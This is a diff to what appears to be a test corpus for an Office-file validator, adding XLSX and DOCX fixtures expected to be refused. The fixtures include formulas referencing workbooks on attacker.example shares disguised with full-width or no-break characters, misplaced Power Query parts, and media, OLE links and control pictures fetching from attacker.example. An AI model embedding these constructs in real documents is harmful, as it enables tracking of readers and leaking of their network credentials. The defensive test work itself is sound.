@@ -83,6 +83,7 @@ import {
   FETCHING_BODIES,
   chartShapesFetching,
   tableOfContents,
+  workbookCustomXml,
   workbookWithStrings,
 } from '../../fixtures/active-office.ts';
 import {
@@ -1249,6 +1250,10 @@ const officeItems: CorpusItem[] = [
   ...onlineVideoOfficeItems(),
   ...svgPictureOfficeItems(),
   ...decodedTargetOfficeItems(),
+  ...bookPathOfficeItems(),
+  ...customXmlPlacedOfficeItems(),
+  ...mediaOfficeItems(),
+  ...objectPictureOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -3254,6 +3259,27 @@ export const ACTIVE_GENUINE: readonly {
         ['..\\资料\\表（一）.xlsx'],
       ),
   },
+  {
+    id: 'xlsx-custom-xml-where-office-writes-it',
+    declared: 'xlsx',
+    // A bibliography's sources as a custom XML part under customXml/, as Excel and WPS write it (round 12).
+    bytes: () =>
+      workbookCustomXml(
+        '../customXml/item1.xml',
+        'customXml/item1.xml',
+        '<b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography" SelectedStyle="\\APASixthEditionOfficeOnline.xsl"/>',
+      ),
+  },
+  {
+    id: 'xlsx-brackets-without-book-path',
+    declared: 'xlsx',
+    // Brackets that name no outside workbook (round 12): a table's structured references, a sheet
+    // named with brackets, a book beside the workbook and one in a sibling folder.
+    bytes: () =>
+      sheetWithFormula(
+        "SUM(表1[金额])+表1[[#This Row],[单价]]+'第[1]季度'!A1+[b.xlsx]汇总!A1+'..\\资料\\[表.xlsx]汇总'!A1",
+      ),
+  },
 ];
 
 /**
@@ -3881,4 +3907,126 @@ function decodedTargetOfficeItems(): CorpusItem[] {
       'OOXML_EXTERNAL',
     ),
   ]);
+}
+
+/**
+ * References into another workbook whose path is a share or a URL that does not start with `\\`
+ * or a scheme's `:/` (round 12): two forward slashes, full-width backslashes, a full-width drive.
+ * The formula check found a path by those bytes only, so each was VALID; now the book's bracket
+ * finds the reference and its path is judged as followed. A no-break space before `\\host`
+ * (round 11's leftover) was refused already, the path found anywhere in the formula; it is kept
+ * here so it stays so.
+ */
+function bookPathOfficeItems(): CorpusItem[] {
+  const EXTERNAL = 'OOXML external';
+  const PATHS: Record<string, string> = {
+    'forward-slashes': "'//attacker.example/share/[b.xlsx]Sheet1'!A1",
+    'full-width-share': "'＼＼attacker.example＼share＼[b.xlsx]Sheet1'!A1",
+    'full-width-drive': "SUM('Ｃ：＼资料＼[b.xlsx]Sheet1'!A1:A9)",
+    'no-break-space-share': "'\u00a0\\\\attacker.example\\share\\[b.xlsx]Sheet1'!A1",
+  };
+  return Object.entries(PATHS).flatMap(([what, formula]) => [
+    item(`xlsx-book-reference-${what}`, EXTERNAL, () => sheetWithFormula(formula), 'OOXML_EXTERNAL'),
+    item(`xlsx-defined-name-book-reference-${what}`, EXTERNAL, () => definedNameFormula(formula), 'OOXML_EXTERNAL'),
+  ]);
+}
+
+/**
+ * Power Query's queries in a custom XML part outside `customXml/` (round 12): Excel finds a
+ * workbook's custom XML by its relationship, wherever the part is, but the check read a
+ * `DataMashup` only under `customXml/`, so one in UTF-8 under `xl/` or in another folder was VALID.
+ * Now the relationship to it is refused (OOXML_UNREADABLE).
+ */
+function customXmlPlacedOfficeItems(): CorpusItem[] {
+  const MASHUP = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAAAEUDAABQSwMEFAACAAgA</DataMashup>';
+  const PLACES: Record<string, [string, string]> = {
+    'under-xl': ['customData/item1.xml', 'xl/customData/item1.xml'],
+    'customxml-subfolder': ['../customXml/queries/item1.xml', 'customXml/queries/item1.xml'],
+    docprops: ['../docProps/item1.xml', 'docProps/item1.xml'],
+  };
+  return Object.entries(PLACES).map(([where, [target, part]]) =>
+    item(
+      `xlsx-power-query-custom-xml-${where}`,
+      'OOXML unreadable',
+      () => workbookCustomXml(target, part, MASHUP),
+      'OOXML_UNREADABLE',
+    ),
+  );
+}
+
+/**
+ * Media a picture stands for, naming an external relationship typed as a hyperlink to a web
+ * address (round 12): DrawingML's linked video and audio, Office 2010's media and Word's movie.
+ * A linked medium is retrieved from its relationship's target; each was VALID with a warning.
+ */
+function mediaOfficeItems(): CorpusItem[] {
+  const TRACKER = 'https://attacker.example/t.mp4';
+  const picture = (media: string) =>
+    `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/><wp:docPr id="1" name="视频 1"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="视频 1"/><pic:cNvPicPr/><pic:nvPr>${media}</pic:nvPr></pic:nvPicPr><pic:blipFill><a:blip r:embed="rId8"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
+  const BODIES: Record<string, string> = {
+    'video-file': picture('<a:videoFile r:link="rId9"/>'),
+    'audio-file': picture('<a:audioFile r:link="rId9"/>'),
+    'office-2010-media': picture(
+      '<a:extLst><a:ext uri="{DAA4B4D4-6D71-4841-9C94-3DE7FCFB9230}"><p14:media xmlns:p14="http://schemas.microsoft.com/office/powerpoint/2010/main" r:embed="rId9"/></a:ext></a:extLst>',
+    ),
+    movie:
+      '<w:p><w:r><w:pict><v:shape id="影片 1" style="width:160pt;height:120pt"><w:movie r:id="rId9"/><v:imagedata r:id="rId8" o:title=""/></v:shape></w:pict></w:r></w:p>',
+  };
+  return Object.entries(BODIES).map(([what, body]) =>
+    item(`docx-${what}-loads-hyperlink`, 'OOXML external', () => documentFetching(body, TRACKER), 'OOXML_EXTERNAL'),
+  );
+}
+
+/**
+ * OLE objects as Word 2010 and Excel 2010 write them, naming an external relationship typed as a
+ * hyperlink to a web address (round 12): Word's linked object (`<w:objectLink
+ * w:updateMode="always">`, updated as the document opens), a VML picture's alternate image
+ * (`r:pict`), and the pictures Excel draws for an OLE object and a control (`<objectPr r:id>`,
+ * `<controlPr r:id>`). Each was VALID with a warning.
+ */
+function objectPictureOfficeItems(): CorpusItem[] {
+  const TRACKER = 'https://attacker.example/t.png';
+  const hyperlinkAndPicture = [rel('rId8', 'image', '../media/image1.png'), rel('rId9', 'hyperlink', TRACKER, true)];
+  return [
+    item(
+      'docx-object-link-loads-hyperlink',
+      'OOXML external',
+      () =>
+        documentFetching(
+          '<w:p><w:r><w:object w:dxaOrig="4320" w:dyaOrig="2880"><w:drawing/><w:objectLink w:drawAspect="content" r:id="rId9" w:progId="Excel.Sheet.12" w:shapeId="1" w:fieldCodes="" w:updateMode="always"/></w:object></w:r></w:p>',
+          TRACKER,
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-vml-alternate-picture-loads-hyperlink',
+      'OOXML external',
+      () =>
+        documentFetching(
+          '<w:p><w:r><w:pict><v:shape id="图片 1" style="width:75pt;height:75pt"><v:imagedata r:id="rId8" r:pict="rId9" o:title=""/></v:shape></w:pict></w:r></w:p>',
+          TRACKER,
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-ole-object-picture-loads-hyperlink',
+      'OOXML external',
+      () =>
+        sheetLoading(
+          '<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId8"><objectPr defaultSize="0" r:id="rId9"/></oleObject></oleObjects>',
+          hyperlinkAndPicture,
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-control-picture-loads-hyperlink',
+      'OOXML external',
+      () =>
+        sheetLoading(
+          '<controls><control shapeId="1025" r:id="rId8" name="复选框 1"><controlPr defaultSize="0" r:id="rId9"/></control></controls>',
+          hyperlinkAndPicture,
+        ),
+      'OOXML_EXTERNAL',
+    ),
+  ];
 }
